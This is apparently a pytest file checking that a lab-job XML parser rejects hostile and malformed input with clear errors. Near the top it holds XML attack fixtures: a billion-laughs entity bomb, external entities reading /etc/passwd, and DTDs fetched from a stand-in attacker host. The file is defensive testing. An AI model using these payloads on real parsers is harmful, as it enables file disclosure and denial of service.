"""Hostile and broken input: each is a clear Invalid("job", ...), never a crash, a hang or a fetch."""
import time

import pytest

from lablease.domain.errors import Invalid
from lablease.jobxml import MAX_BYTES, MAX_DEPTH, MAX_ELEMENTS, normalise_job, parse_job_xml
from lablease.jobxml.normalise import MAX_FILTER_DEPTH
from lablease.jobxml.safexml import _stream

from .jobs import MINIMAL, host, job_with

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE job [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<job><whiteboard>&lol9;</whiteboard><recipeSet><recipe/></recipeSet></job>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE job [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<job><whiteboard>&passwd;</whiteboard><recipeSet><recipe/></recipeSet></job>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE job SYSTEM "http://attacker.invalid/job.dtd">
<job><recipeSet><recipe/></recipeSet></job>
"""
PARAMETER_ENTITY = b"""<!DOCTYPE job [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<job/>"""


def refusal(document) -> str:
    started = time.monotonic()
    with pytest.raises(Invalid) as error:
        parse_job_xml(document)
    assert time.monotonic() - started < 2, "refusing took too long"
    assert error.value.field == "job"
    return error.value.extra["reason"]


@pytest.mark.parametrize("document", [
    BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY,
    b"<!DOCTYPE job><job><recipeSet><recipe/></recipeSet></job>",
    b"<?xml version='1.0'?>\n<!-- first a comment -->\n<!DOCTYPE job>\n<job/>",
], ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "bare-doctype", "after-comment"])
def test_any_doctype_is_refused(document):
    assert "DOCTYPE is not allowed" in refusal(document)


LOCAL_DTD = b'<!DOCTYPE job SYSTEM "file:///etc/passwd"><job/>'
LOCAL_PARAMETER_ENTITY = b'<!DOCTYPE job [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><job/>'


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, LOCAL_DTD, LOCAL_PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "local-dtd", "local-parameter-entity"])
def test_the_parser_itself_expands_and_reads_nothing(document):
    # Defence in depth, below the DOCTYPE refusal: the parser neither expands
    # entities nor reads files (libxml2 would read a file:// DTD despite
    # load_dtd=False; the resolver answers with nothing).
    try:
        root = _stream(document)
    except Invalid as error:  # libxml2's own amplification limit, or a network refusal
        assert "root:" not in error.detail
        return
    text = "".join(root.itertext())
    assert "lollol" not in text and "root:" not in text
    assert len(text) < 100


def test_two_mebibytes_is_refused_before_parsing():
    assert f"the limit is {MAX_BYTES}" in refusal(b"<job>" + b" " * (2 * 1024 * 1024) + b"</job>")


def test_ten_thousand_deep_is_refused():
    document = b"<job>" + b"<and>" * 10_000 + b"</and>" * 10_000 + b"</job>"
    assert f"too deeply nested (elements may nest at most {MAX_DEPTH} deep)" in refusal(document)


def test_filters_nest_at_most_32_levels():
    def nested(levels: int) -> bytes:
        return host(b"<not>" * levels + b'<arch value="x"/>' + b"</not>" * levels)

    assert parse_job_xml(nested(MAX_FILTER_DEPTH))
    assert f"too deeply nested (at most {MAX_FILTER_DEPTH} levels of and/or/not" in refusal(nested(MAX_FILTER_DEPTH + 1))


def test_the_deepest_filter_leaves_stack_for_the_caller():
    # jsonschema recurses per filter level; at the limit it must still work with
    # a good part of Python's stack already used by the server.
    import sys

    tree = {"field": "arch", "value": "x"}
    for _ in range(MAX_FILTER_DEPTH):
        tree = {"not": tree}

    def deep(frames: int):
        return deep(frames - 1) if frames else normalise_job({"recipe_sets": [{"recipes": [{"host_requires": tree}]}]})

    assert sys.getrecursionlimit() >= 1000
    assert deep(400)


def test_two_hundred_thousand_elements_are_refused():
    document = b"<job>" + b"<a/>" * 200_000 + b"</job>"
    assert f"too many elements (a job may have at most {MAX_ELEMENTS})" in refusal(document)


def test_many_attributes_on_one_element_do_not_hang():
    document = b"<job " + b" ".join(b'a%d="x"' % i for i in range(90_000)) + b"><recipeSet><recipe/></recipeSet></job>"
    assert "<job> has no attribute 'a0'" in refusal(document)


@pytest.mark.parametrize("document, expected", [
    (b"\xff\xfe\x00g\x00a\x00r\x80\x81", "not UTF-8 text (byte 0xff at offset 0)"),
    ("<job><whiteboard>Größe</whiteboard></job>".encode("latin-1"), "line 1: not UTF-8 text (byte 0xf6"),
    ("<job/>".encode("utf-16"), "not UTF-8 text"),
    (b"", "the body is empty"),
    (b"  \n\t ", "the body is empty"),
    (MINIMAL[:-10], "line 1, column 34: not well-formed XML: Opening and ending tag mismatch"),
    (b'{"recipe_sets": []}', "not well-formed XML: Start tag expected"),
    (b"<job>&nbsp;</job>", "Entity 'nbsp' not defined"),
    (b"<job>\x00</job>", "not well-formed XML"),
    (b"<job><recipeSet><recipe/></recipeSet></job><job/>", "Extra content at the end of the document"),
], ids=["garbage", "latin-1", "utf-16", "empty", "blank", "truncated", "json", "entity", "nul", "two-roots"])
def test_broken_documents(document, expected):
    assert expected in refusal(document)


@pytest.mark.parametrize("document, expected", [
    (host(b'<colour value="red"/>'),
     "line 4: <colour> is not allowed inside <hostRequires> (allowed here: and, arch, auto_prov, cpu, cpu_count,"),
    (host(b'<system><flag value="vmx"/></system>'), "<flag> is not allowed inside <system>"),
    (host(b'<system><user op="&lt;" value="jdoe"/></system>'), "line 4: <user> op"),
    (host(b'<device op="="/>'), "line 4: <device> value: needs at least one of: type, bus, driver, vendor_id"),
    (host(b'<disk><size op="&gt;" value="1" units="PB"/></disk>'), "units='PB' is not allowed; use one of: bytes,"),
    (host(b'<system><last_inventoried op="&gt;" value="last week"/></system>'),
     "<last_inventoried> value: 'last week' is not a date (YYYY-MM-DD"),
    (host(b'<cpu><hyper value="maybe"/></cpu>'), "<hyper> value: 'maybe' is not of type 'boolean'"),
    (host(b'<memory op="~" value="1"/>'), "line 4: <memory> op='~' is not allowed; use one of: =, ==, !=, <,"),
    (host(b'<arch op="&lt;" value="x"/>'), "<arch> op='<' is not allowed; use one of: =, ==, !=, like"),
    (host(b'<pool op="like" value="p%"/>'), "<pool> op='like' is not allowed"),
    (host(b'<and><arch value="x"/><memory op="&gt;" value="lots"/></and>'),
     "line 4: <memory> value: 'lots' is not a whole number"),
    (host(b'<cpu><cores value="-1"/></cpu>'), "<cores> value: '-1' is not a whole number"),
    (host(b'<key_value value="x"/>'), "<key_value> needs a key= attribute"),
    (host(b"<arch/>"), "<arch> needs a value= attribute"),
    (host(b'<arch value="x" colour="red"/>'), "<arch> has no attribute 'colour' (allowed: op, value)"),
    (host(b"<not/>"), "<not> needs a filter inside it"),
    (host(b"any x86 box"), "<hostRequires> may not contain text"),
    (job_with(b'<reservesys when="onfail" onpass="true"/>'),
     "line 4: <reservesys>: give either when= or the flags (onabort, onfail, onwarn, onpass), not both"),
    (job_with(b'<reservesys when="sometimes"/>'), "when='sometimes' is not allowed; use one of: always,"),
    (job_with(b'<reservesys onfail="yes"/>'), "onfail='yes' is not allowed"),
    (job_with(b'<reservesys duration="soon"/>'), "<reservesys> duration: 'soon' is not a duration"),
    (job_with(b"", b' runtime_limit="0"'), "<recipe> runtime_limit: must be positive"),
    (job_with(b"", b' runtime_limit="99999999999"'), "<recipe> runtime_limit: '99999999999' is out of range"),
    (job_with(b'<hostRequires force="a.example.com"><arch value="x"/></hostRequires>'),
     "force= names exactly one system; it cannot be combined with host requirements"),
    (job_with(b"<hostRequires/><hostRequires/>"), "<hostRequires> may appear only once inside <recipe>"),
    (job_with(b"<autopick><pool>a</pool><pool>a</pool></autopick>"), "<autopick> pools: lists the same name twice"),
    (job_with(b'<task name="/a"><params><param name="X" value="1"/><param name="X" value="2"/></params></task>'),
     "line 4: <param>: parameter 'X' is given twice"),
    (job_with(b"<task/>"), "line 4: <task>: a task needs a name or a fetch URL"),
    (job_with(b"<colour/>"), "<colour> is not allowed inside <recipe>"),
    (job_with(b"", b"", b' priority="urgent"'), "priority='urgent' is not allowed; use one of: Low, Medium,"),
    (job_with(b"", b"", b' ar="tomorrow"'), "line 2: <recipeSet> ar: 'tomorrow' is not a whole number"),
    (job_with(b"", b"", b' ar="0"'), "<recipeSet> ar: 0 is too small (at least 1)"),
    (job_with(b"", b"", b' ar="99999999999999999999999"'), "<recipeSet> ar: is too large (at most 2147483647)"),
    (host(b'<memory op="&gt;" value="' + b"9" * 5000 + b'"/>'),
     "<memory> value: is too large (at most 9223372036854775807)"),
    (b"<job><recipeSet/></job>", "<recipeSet> needs at least one <recipe>"),
    (b"<job/>", "<job> needs at least one <recipeSet>"),
    (b'<job group=""><recipeSet><recipe/></recipeSet></job>', "<job> group: must not be empty"),
    (b"<jobs/>", "the document element must be <job>, not <jobs>"),
    (b'<job xmlns="urn:beaker"><recipeSet><recipe/></recipeSet></job>', "must be <job>, not <{urn:beaker}job>"),
])
def test_invalid_jobs_say_what_and_where(document, expected):
    assert expected in refusal(document)


def test_the_relax_ng_schema_is_the_final_word(monkeypatch):
    from lablease.jobxml import grammar

    monkeypatch.setattr(grammar, "explain", lambda root: None)  # pretend the friendly check missed it
    assert "does not match the job schema" in refusal(host(b'<arch value="x" colour="red"/>'))
